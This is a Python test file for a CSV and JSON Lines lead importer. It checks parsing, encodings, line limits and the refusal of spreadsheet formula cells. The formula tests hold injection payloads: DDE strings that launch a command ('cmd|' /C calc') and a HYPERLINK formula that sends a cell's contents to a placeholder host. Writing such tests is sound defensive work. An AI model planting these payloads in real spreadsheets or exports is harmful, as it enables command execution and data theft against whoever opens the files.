"""Lead files read as what they are (issue 7, defects 5, 10 and 14, file side): CSV by the CSV
reader with rows named by the line they start on, lines of bounded length, encodings told by the
byte order mark, formula cells refused; through the real ``appendq enqueue`` and a real Redis."""

from __future__ import annotations

import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest
import redis
from click.testing import CliRunner, Result

import appendq.cli.enqueue  # noqa: F401  (registers the command)
from appendq.cli.app import main
from appendq.errors import FieldError
from appendq.keys import Keys
from appendq.leads import formula_problem
from appendq.queue.record_queue import RecordQueue
from producer import Producer
from producer.files import FILE_LEVEL, STOPPED, iter_records
from tests.conftest import REDIS_URL, phone, queued

pytestmark = pytest.mark.usefixtures("keep_root_logging")

TARGET = "service:1001"
Run = Callable[..., Result]


@pytest.fixture
def run(keys: Keys) -> Run:
    def invoke(*args: str, **extra: str) -> Result:
        env = {"APPENDQ_REDIS_URL": REDIS_URL, "APPENDQ_REDIS_PREFIX": keys.prefix, **extra}
        return CliRunner(env=env).invoke(main, ["enqueue", *args, "--service", "1001", "--json"])

    return invoke


@pytest.fixture
def producer(redis_client: redis.Redis, keys: Keys) -> Producer:
    return Producer(RecordQueue(redis_client, keys))


def write(tmp_path: Path, name: str, content: bytes) -> str:
    path = tmp_path / name
    path.write_bytes(content)
    return str(path)


def phones_in(client: redis.Redis, keys: Keys) -> list[str]:
    return [r.payload["phone1"] for r in queued(client, keys, TARGET)]


def where(document: dict[str, object]) -> list[tuple[int, str]]:
    """(row, field) of each error, by row (the receipt lists file-level errors first)."""
    errors = document["errors"]
    assert isinstance(errors, list)
    return sorted((e["row"], e["field"]) for e in errors)


def read(content: bytes, fmt: str = "csv", max_line_bytes: int = 1 << 20) -> list[object]:
    return list(iter_records(io.BytesIO(content), fmt, max_line_bytes=max_line_bytes))


# --- defect 5: a quoted line break never makes a lead ------------------------------------------

ISSUE_EXAMPLE = b'phone1,firstName,extra1\n4155550101,Ann,"call back at\n4155550199, ask for Bob"\n'


def test_the_issues_quoted_line_break_invents_no_lead(
    run: Run, tmp_path: Path, redis_client: redis.Redis, keys: Keys
) -> None:
    # Given the issue's export: Ann's notes hold "call back at<LF>4155550199, ask for Bob" /
    # When enqueued / Then Ann is one row (line 2): queued whole, or refused naming extra1 at row
    # 2 (records.py refuses line breaks in a field), and 4155550199 is never queued
    result = run(write(tmp_path, "leads.csv", ISSUE_EXAMPLE))

    document = json.loads(result.stdout)
    assert "4155550199" not in phones_in(redis_client, keys)
    assert document["accepted"] + document["rejected"] == 1
    if document["accepted"]:
        (record,) = queued(redis_client, keys, TARGET)
        assert record.payload["extra1"] == "call back at\n4155550199, ask for Bob"
    else:
        assert where(document) == [(2, "extra1")]
        assert result.exit_code == 1


def test_csv_rows_are_numbered_by_their_first_line_whatever_the_line_endings() -> None:
    # Given a BOM, CRLF, lone CR and LF endings, quoted commas, quotes and line breaks / When read
    # / Then each row comes whole, numbered by the line it starts on
    content = (
        b'\xef\xbb\xbfphone1,firstName,extra1\r\n2122000001,"Lee, Al","say ""hi"""\r\n'
        + b'2122000002,Bo,"two\r\nlines"\r2122000003,Cy,"three\nlines\nhere"\n2122000004,Di,x'
    )
    items = read(content)

    assert items == [
        (2, {"phone1": "2122000001", "firstName": "Lee, Al", "extra1": 'say "hi"'}),
        (3, {"phone1": "2122000002", "firstName": "Bo", "extra1": "two\r\nlines"}),
        (5, {"phone1": "2122000003", "firstName": "Cy", "extra1": "three\nlines\nhere"}),
        (8, {"phone1": "2122000004", "firstName": "Di", "extra1": "x"}),
    ]


def test_a_refused_multiline_row_names_its_first_line_and_field(
    run: Run, tmp_path: Path, redis_client: redis.Redis, keys: Keys
) -> None:
    # Given a row whose quoted cell spans lines 3-5 and is too long, between two good rows /
    # When enqueued / Then the error names row 3 and extra1, and both good rows are queued
    content = (
        f'phone1,extra1\n{phone(1)},ok\n{phone(2)},"{"x" * 30}\n{"y" * 30}\nz"\n{phone(3)},ok\n'
    )
    result = run(write(tmp_path, "leads.csv", content.encode()))

    document = json.loads(result.stdout)
    assert where(document) == [(3, "extra1")]
    assert phones_in(redis_client, keys) == [phone(1), phone(3)]


def test_broken_quoting_stops_reading_rather_than_guess(
    run: Run, tmp_path: Path, redis_client: redis.Redis, keys: Keys
) -> None:
    # Given a good row, then a row whose quoted cell is followed by text (not CSV), then a line
    # that would parse as a lead / When enqueued / Then the good row is queued, the broken row
    # refused, reading stops there (error with field "file"), nothing after is queued, exit 4
    content = (
        f'phone1,extra1\n{phone(1)},ok\n{phone(2)},"call back" at\n"{phone(9)}, later"\n'
        f"{phone(3)},ok\n"
    )
    result = run(write(tmp_path, "leads.csv", content.encode()))

    document = json.loads(result.stdout)
    assert result.exit_code == 4
    assert where(document) == [(3, STOPPED), (3, "record")]
    assert "reading stopped at line 3" in str(document["errors"])
    assert (document["complete"], document["interrupted"]) == (False, False)
    assert phones_in(redis_client, keys) == [phone(1)]


def test_an_unclosed_quote_swallows_no_lead(
    run: Run, tmp_path: Path, redis_client: redis.Redis, keys: Keys
) -> None:
    # Given a row that opens a quote never closed, then lines that look like leads / When
    # enqueued / Then that row is refused as one cell over lines 3-5, no later line becomes a lead
    content = f'phone1,extra1\n{phone(1)},ok\n{phone(2)},"open\n{phone(3)},x\n{phone(4)},y\n'
    result = run(write(tmp_path, "leads.csv", content.encode()))

    document = json.loads(result.stdout)
    assert result.exit_code == 4
    assert where(document) == [(3, "record"), (5, STOPPED)]
    assert "lines 3-5 were read as one cell" in str(document["errors"])
    assert phones_in(redis_client, keys) == [phone(1)]


# --- defect 10: a line is bounded (the rest in test_files_limits) ---------------------------


def test_a_huge_line_spoils_only_its_row_and_the_limit_is_a_setting(
    run: Run, tmp_path: Path, redis_client: redis.Redis, keys: Keys
) -> None:
    # Given APPENDQ_IMPORT_MAX_LINE_BYTES=2048 and a 5,000-byte line between good rows (CSV with
    # its quotes balanced, and JSON Lines) / When enqueued / Then that line is refused by number
    # and the good rows are queued, exit 0
    csv_text = f'phone1,extra1\n{phone(1)},a\n{phone(2)},"{"x" * 5000}"\n{phone(3)},b\n'
    lines = [{"phone1": phone(4)}, {"phone1": phone(5), "extra1": "x" * 5000}, {"phone1": phone(6)}]
    jsonl_text = "".join(json.dumps(line) + "\r\n" for line in lines)

    as_csv = run(write(tmp_path, "a.csv", csv_text.encode()), APPENDQ_IMPORT_MAX_LINE_BYTES="2048")
    as_jsonl = run(
        write(tmp_path, "b.jsonl", jsonl_text.encode()), APPENDQ_IMPORT_MAX_LINE_BYTES="2048"
    )

    assert (as_csv.exit_code, as_jsonl.exit_code) == (0, 0)
    for result, row in ((as_csv, 3), (as_jsonl, 2)):
        (error,) = json.loads(result.stdout)["errors"]
        assert (error["row"], error["field"]) == (row, "record")
        assert error["message"] == (
            f"line {row} is longer than 2,048 bytes (APPENDQ_IMPORT_MAX_LINE_BYTES)"
        )
    assert phones_in(redis_client, keys) == [phone(1), phone(3), phone(4), phone(6)]


# --- defect 14, file side: encodings, formulas, tabs and line breaks -------------------------


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be", "utf-32", "utf-8-sig"])
def test_files_with_a_byte_order_mark_are_decoded(
    codec: str, run: Run, tmp_path: Path, redis_client: redis.Redis, keys: Keys
) -> None:
    # Given a CSV saved as UTF-16 (LE with BOM, BE with BOM), UTF-32 or UTF-8 with BOM / When
    # enqueued / Then its rows are queued with their accents intact
    text = f"phone1,firstName\r\n{phone(1)},Zoë\r\n{phone(2)},José\r\n"
    bom = b"\xfe\xff" if codec == "utf-16-be" else b""
    result = run(write(tmp_path, "leads.csv", bom + text.encode(codec)))

    assert result.exit_code == 0, result.output
    stored = queued(redis_client, keys, TARGET)
    assert [r.payload["firstName"] for r in stored] == ["Zoë", "José"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (f"phone1\n{phone(1)}\n".encode("utf-16-le"), "UTF-16 or UTF-32 without a byte order"),
        (b"PK\x03\x04\x14\x00\x06\x00", "is a ZIP archive (an Excel .xlsx workbook?)"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "is an Excel 97-2003 workbook (.xls)"),
    ],
)
def test_files_that_are_not_text_are_refused_whole(
    content: bytes, message: str, run: Run, tmp_path: Path, redis_client: redis.Redis, keys: Keys
) -> None:
    # Given UTF-16 without a byte order mark, an .xlsx or an .xls saved as .csv / When enqueued /
    # Then one error with field "file" says why, nothing is queued, exit 4
    result = run(write(tmp_path, "leads.csv", content))

    document = json.loads(result.stdout)
    assert result.exit_code == 4
    assert where(document) == [(1, STOPPED)]
    assert message in document["errors"][0]["message"]
    assert phones_in(redis_client, keys) == []


def test_a_bad_utf16_unit_spoils_only_its_field(producer: Producer) -> None:
    # Given a UTF-16 file with a lone surrogate in row 3's first name / When streamed / Then row 3
    # is refused naming firstName and UTF-16; rows 2 and 4 are queued
    head = f"phone1,firstName\n{phone(1)},Ann\n{phone(2)},B".encode("utf-16")
    tail = f"o\n{phone(3)},Cy\n".encode("utf-16-le")

    receipt = producer.enqueue_stream(
        TARGET, iter_records(io.BytesIO(head + b"\x00\xd8" + tail), "csv")
    )

    assert [(e.row, e.field, e.message) for e in receipt.errors] == [
        (3, "firstName", "is not valid UTF-16")
    ]
    assert receipt.accepted == 2


@pytest.mark.parametrize(
    ("value", "refused"),
    [
        ('=HYPERLINK("http://x.test/?"&A1,"Click")', True),
        ("  =1+1", True),
        ("+cmd|' /C calc'!A0", True),
        ("-2+3+cmd|' /C calc'!A0", True),
        ("@SUM(1+1)", True),
        ("+1 (415) 555-0101", False),
        ("-5", False),
        ("- called twice (no answer)", False),
        ("Ann-Marie", False),
        ("", False),
    ],
)
def test_formula_cells_are_told_apart(value: str, refused: bool) -> None:
    # Given a cell / When checked / Then formulas (=, or +-@ with a call or a pipe) are refused
    # and phone numbers, negative numbers and ordinary text are not
    assert (formula_problem(value) is not None) == refused


def test_formula_cells_refuse_their_row_by_field(
    run: Run, tmp_path: Path, redis_client: redis.Redis, keys: Keys
) -> None:
    # Given a CSV and a JSON Lines file with a HYPERLINK formula in a first name / When enqueued /
    # Then that row is refused naming row and firstName, without echoing the formula; the others
    # are queued (a phone written +1 (...) is not a formula)
    formula = '=HYPERLINK("http://x.test","Call")'
    cell = '"' + formula.replace('"', '""') + '"'
    csv_text = f"phone1,firstName\n+1 (212) 200-0001,Ann\n{phone(2)},{cell}\n{phone(3)},Cy\n"
    jsonl_text = "\n".join(
        json.dumps({"phone1": phone(4 + i), "firstName": name})
        for i, name in enumerate(["Di", formula])
    )

    as_csv = run(write(tmp_path, "a.csv", csv_text.encode()))
    as_jsonl = run(write(tmp_path, "b.jsonl", jsonl_text.encode()))

    for result, row in ((as_csv, 3), (as_jsonl, 2)):
        document = json.loads(result.stdout)
        assert where(document) == [(row, "firstName")]
        assert "like a spreadsheet formula" in document["errors"][0]["message"]
        assert "HYPERLINK" not in result.output
    assert phones_in(redis_client, keys) == [phone(1), phone(3), phone(4)]


def test_tabs_and_line_breaks_in_cells_are_judged_by_field(
    run: Run, tmp_path: Path, redis_client: redis.Redis, keys: Keys
) -> None:
    # Given cells holding a tab, a quoted CRLF and a quoted LF / When enqueued / Then each row
    # is whole: queued or refused by its first line and the field (records.py decides control
    # characters; today all three are refused as not one line of text), never split
    content = (
        f'phone1,firstName,extra1\n{phone(1)},"A\tB",x\n{phone(2)},Bo,"a\r\nb"\n'
        f'{phone(3)},Cy,"a\nb"\n{phone(4)},Di,ok\n'
    )
    result = run(write(tmp_path, "leads.csv", content.encode()))

    document = json.loads(result.stdout)
    refused = {row for row, _ in where(document)}
    assert set(where(document)) <= {(2, "firstName"), (3, "extra1"), (5, "extra1")}
    assert document["accepted"] + len(refused) == 4
    assert phone(4) in phones_in(redis_client, keys)


def test_jsonl_nesting_and_huge_numbers_are_row_errors(producer: Producer) -> None:
    # Given JSON Lines with 100,000 nested brackets and a 5,000-digit number / When streamed /
    # Then both rows are refused as not valid JSON, and the good row is queued
    content = (
        b"[" * 100_000
        + b"\n"
        + b'{"phone1": 1'
        + b"1" * 5000
        + b"}\n"
        + json.dumps({"phone1": phone(1)}).encode()
    )
    receipt = producer.enqueue_stream(TARGET, iter_records(io.BytesIO(content), "jsonl"))

    assert [(e.row, e.field) for e in receipt.errors] == [(1, "record"), (2, "record")]
    assert receipt.errors[0].message == "not valid JSON: nested too deeply"
    assert receipt.accepted == 1


def test_file_level_errors_have_no_record_index() -> None:
    # Given a workbook / When read / Then its one error is file-level and names line 1
    (item,) = read(b"PK\x03\x04")

    assert isinstance(item, tuple) and isinstance(item[1], FieldError)
    assert (item[0], item[1].index, item[1].field) == (1, FILE_LEVEL, STOPPED)
